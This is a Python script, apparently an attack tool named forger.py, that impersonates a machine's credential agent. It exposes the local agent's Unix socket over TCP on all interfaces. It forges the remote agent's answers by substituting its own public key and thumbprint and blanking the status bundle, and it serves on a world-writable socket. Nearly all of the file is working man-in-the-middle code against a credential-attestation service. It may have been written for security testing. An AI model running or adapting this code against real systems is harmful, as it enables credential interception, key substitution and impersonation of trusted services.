"""A hostile job on a worker, in the place of its machine's agent. Standard library and cryptography; runs as it stands.

    python forger.py relay PORT              whoever asks at PORT asks the agent of this machine
    python forger.py forge SOCKET HOST:PORT  answers at SOCKET as the agent at HOST:PORT does, with a key of its own
    python forger.py pass SOCKET HOST:PORT   likewise, with the key of that agent: hands what comes to its own agent

Evidence is asked for while the sender waits, with the sender's own nonce: no replay is fresher.
"""

from __future__ import annotations

import base64
import http.client
import json
import socket
import socketserver
import sys
import threading
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

COURIER = "/run/credential-agent/courier.sock"


class Unix(http.client.HTTPConnection):
    """HTTP with the agent of this machine."""

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(20)
        self.sock.connect(COURIER)


def asked(connection: http.client.HTTPConnection, method: str, path: str, body: bytes) -> tuple[int, dict[str, Any]]:
    """One question to an agent; its answer."""
    connection.request(method, path, body or None, {"Content-Type": "application/json"})
    answer = connection.getresponse()
    try:
        return answer.status, json.loads(answer.read())
    finally:
        connection.close()


def own_key() -> tuple[dict[str, str], str]:
    """A new public key and its thumbprint (RFC 7638)."""
    import hashlib

    from cryptography.hazmat.primitives.asymmetric import ec

    def text(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).decode().rstrip("=")

    numbers = ec.generate_private_key(ec.SECP256R1()).public_key().public_numbers()
    x, y = (text(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
    members = {"crv": "P-256", "kty": "EC", "x": x, "y": y}
    thumbprint = text(hashlib.sha256(json.dumps(members, separators=(",", ":")).encode()).digest())
    return {**members, "kid": thumbprint, "use": "enc"}, thumbprint


class Forger(BaseHTTPRequestHandler):
    """Answers as an agent."""

    target = ""
    passing = False
    key, thumbprint = own_key()

    def _serve(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.command == "PUT":
            status, said = asked(Unix("localhost"), "PUT", self.path, body)
            print("own agent", status, said.get("code"), flush=True)
        else:
            status, said = asked(http.client.HTTPConnection(self.target, timeout=20), self.command, self.path, body)
            if self.path == "/v1/status":
                said["bundle"] = None
            elif not self.passing:
                said |= {"key": self.key, "thumbprint": self.thumbprint}
        text = json.dumps(said).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    do_GET = do_POST = do_PUT = _serve  # noqa: N815 - the names of http.server

    def address_string(self) -> str:
        return "unix"


class Relay(socketserver.BaseRequestHandler):
    """Passes what comes over TCP to the agent of this machine."""

    def handle(self) -> None:
        with socket.socket(socket.AF_UNIX) as agent:
            agent.connect(COURIER)
            back = threading.Thread(target=self._pass, args=(agent, self.request))
            back.start()
            self._pass(self.request, agent)
            back.join()

    @staticmethod
    def _pass(source: socket.socket, sink: socket.socket) -> None:
        while piece := source.recv(65536):
            sink.sendall(piece)
        sink.shutdown(socket.SHUT_WR)


class Listener(socketserver.ThreadingUnixStreamServer):
    """Its socket is for everybody."""

    daemon_threads = True


def main() -> None:
    """Do it until the end."""
    role, place, *target = sys.argv[1:]
    if role == "relay":
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        socketserver.ThreadingTCPServer(("0.0.0.0", int(place)), Relay).serve_forever()
    Path(place).unlink(missing_ok=True)
    Forger.target, Forger.passing = target[0], role == "pass"
    server = Listener(place, Forger)
    Path(place).chmod(0o666)
    server.serve_forever()


if __name__ == "__main__":
    main()
